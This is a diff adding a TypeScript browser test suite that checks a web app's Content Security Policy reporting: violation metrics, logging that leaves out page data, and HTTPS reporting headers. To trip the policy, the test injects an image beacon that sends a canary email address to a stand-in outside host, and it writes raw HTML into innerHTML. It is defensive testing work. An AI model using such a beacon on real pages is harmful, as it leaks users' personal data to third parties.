@@ -1,0 +1,70 @@
+import type { Browser } from '@playwright/test'
+import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
+import { freePort } from '../../../tools/process/free-port.ts'
+import { openBrowser, openPhone } from '../../journeys/harness/open-browser.ts'
+import { productionSettings } from '../../server/production-settings.ts'
+import { startStack, type Stack } from '../../journeys/harness/start-stack.ts'
+import { openForm } from '../harness/open-form.ts'
+import { openHttps } from '../harness/open-https.ts'
+import { ownBrowser } from '../harness/own-browser.ts'
+
+let stack: Stack
+let browser: Browser
+beforeAll(async () => void ([stack, browser] = await Promise.all([startStack({ LOG_LEVEL: 'info' }), openBrowser()])))
+afterAll(async () => void (await Promise.all([browser?.close(), stack?.stop()])))
+
+test('what the policy of a page stops in a browser is counted and logged, with the kind of what was stopped and nothing of the page', async () => {
+  const page = await (await openPhone(browser)).newPage()
+  await openForm(page, `${stack.url}/application-frontend/?email=canary@example.com`)
+  await page.evaluate(() => {
+    const picture = document.createElement('img')
+    picture.src = 'https://stranger.example/pixel.gif?email=canary@example.com'
+    document.body.append(picture)
+    try {
+      document.body.innerHTML = '<b>canary</b>'
+    } catch {
+      // Trusted Types stop it
+    }
+  })
+  const figures = async () => (await fetch(`${stack.operationsUrl}/metrics`)).text()
+  await expect.poll(figures, { timeout: 20_000 }).toContain('policy_violations_total{directive="img-src"} 1')
+  await expect.poll(figures, { timeout: 20_000 }).toContain('policy_violations_total{directive="require-trusted-types-for"} 1')
+  await expect.poll(() => stack.said()).toContain('"directive":"img-src","blocked":"https:","msg":"policy violated"')
+  expect(stack.said()).toContain('"directive":"require-trusted-types-for","blocked":"trusted-types-sink","msg":"policy violated"')
+  expect(stack.said()).not.toContain('canary')
+})
+
+test('over https a browser reports by the newer header what the policy stops, and by the older one what does not reach us', async () => {
+  const port = await freePort()
+  const production = await startStack({
+    ...productionSettings,
+    PUBLIC_URL: `https://house.test:${port}`,
+  })
+  onTestFinished(production.stop)
+  await using https = await openHttps(port, production.url)
+  // what `report-uri` would send
+  https.passOnly(({ headers }) => headers['content-type'] !== 'application/csp-report')
+  // without the last one a report is a minute late
+  const own = ownBrowser([...https.browserArguments, '--short-reporting-delay'])
+  onTestFinished(own.close)
+  const page = await own.open()
+  await page.goto(`${https.url}/application-frontend/`)
+  await page.evaluate(() => {
+    const picture = document.createElement('img')
+    picture.src = 'https://stranger.example/pixel.gif'
+    document.body.append(picture)
+  })
+  const figures = async () => (await fetch(`${production.operationsUrl}/metrics`)).text()
+  await expect.poll(figures, { timeout: 60_000 }).toContain('policy_violations_total{directive="img-src"} 1')
+  https.passOnly(({ url }) => url?.endsWith('/reports') === true)
+  // a twentieth of the failures is told
+  const fail = () =>
+    page.evaluate(() =>
+      fetch('/api/lead/status/none')
+        .catch(() => undefined)
+        .then(() => undefined),
+    )
+  await expect
+    .poll(async () => (await fail(), await figures()), { timeout: 120_000, interval: 20 })
+    .toMatch(/network_failures_total\{failure="[a-z.]+"\} [1-9]/u)
+})
